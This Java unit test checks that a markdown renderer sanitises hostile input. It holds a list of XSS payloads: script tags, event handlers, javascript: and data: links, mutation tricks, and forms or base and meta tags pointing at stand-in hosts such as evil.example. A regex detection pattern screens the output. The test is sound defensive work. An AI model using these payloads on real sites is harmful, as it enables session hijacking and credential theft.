package org.stoa.catalog.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.regex.Pattern;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HostileMarkdownTest {
    private static final Pattern TAG = Pattern.compile("<[^>]*>");
    private static final Pattern DANGER =
            Pattern.compile(
                    "(?i)<(script|iframe|object|embed|svg|math(?!>| display=\"block\">)|style|link|meta|base|form|input"
                            + "|button|textarea|template|noscript|video|audio|frame)|\\son\\w+\\s*="
                            + "|\\sstyle\\s*=|\\s(href|src)=\"\\s*(?!https?:|mailto:|tel:|/(?!/)|#)"
                            + "|srcset|formaction|xlink");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "<<script>script>alert(1)<</script>/script>",
                "<img src=x onerror=alert(1)>",
                "<img src=/x onerror=alert(1)//",
                "<img/src=x/onerror=alert(1)>",
                "<img src=\"/a\" onload=\"alert(1)\">",
                "<img src=http://tracker.example/p.gif>",
                "<img src=//tracker.example/p.gif>",
                "<img src=\"/\\\\evil.example/x\">",
                "<img srcset=\"//evil.example/x 1x\">",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
                "<math href=\"javascript:alert(1)\">x</math>",
                "<style>*{background:url(//evil.example)}</style>",
                "<p style=\"position:fixed;inset:0\">x</p>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"javascript:alert(1)\"></object>",
                "<embed src=\"data:text/html,x\">",
                "<form action=//evil.example><input name=password><button>Go</button></form>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\" javascript:alert(1)\">x</a>",
                "<a href=\"java\tscript:alert(1)\">x</a>",
                "<a href=\"java&#10;script:alert(1)\">x</a>",
                "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
                "<a href=\"\u0001javascript:alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
                "<a href=\"file:/etc/passwd\">x</a>",
                "<a href=x onclick=alert(1)>x</a>",
                "<a\u00a0href=x\u00a0onclick=alert(1)>x</a>",
                "<base href=//evil.example>",
                "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<template><script>alert(1)</script></template>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<details open ontoggle=alert(1)>x</details>",
                "<video><source onerror=alert(1)></video>",
                "[x](javascript:alert(1))",
                "[x](JAVASCRIPT&colon;alert(1))",
                "[x](<java\u00adscript:alert(1)>)",
                "[x](data:text/html,<script>alert(1)</script>)",
                "[x](//evil.example \"onmouseover=alert(1)\")",
                "[x](https://e.example/\"onmouseover=\"alert(1))",
                "![x\" onerror=\"alert(1)](/a.png)",
                "![x](/a.png \"t\" onerror=alert(1))",
                "![x](javascript:alert(1))",
                "![x](data:image/svg+xml;base64,PHN2Zz4=)",
                "<javascript:alert(1)>",
                "```c\" onclick=\"alert(1)\n<script>alert(1)</script>\n```",
                "```<script> <img/src=x.c> {1}\nx\n```",
                "$<img src=x onerror=alert(1)>$",
                "> [!NOTE] <script>alert(1)</script>\n> x",
                "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
                "# <img src=x onerror=alert(1)>",
                "| <script>alert(1)</script> |\n|---|\n| [x](javascript:1) |",
                "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
                "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "<img src=\"lesson:x\" onerror=alert(1)><a href='lesson:\"onclick=alert(1)'>x</a>"
            })
    void nothingHostileReachesAPage(String payload) {
        for (String text : new String[] {payload, "Words " + payload + " more", "- " + payload}) {
            String html = new Markdown().render(text, Links.NONE).html();
            TAG.matcher(html)
                    .results()
                    .forEach(tag -> {
                        String bare = tag.group().replaceAll("(title|alt)=\"[^\"]*\"", "");
                        assertThat(DANGER.matcher(bare).find()).as(html).isFalse();
                    });
        }
    }
}
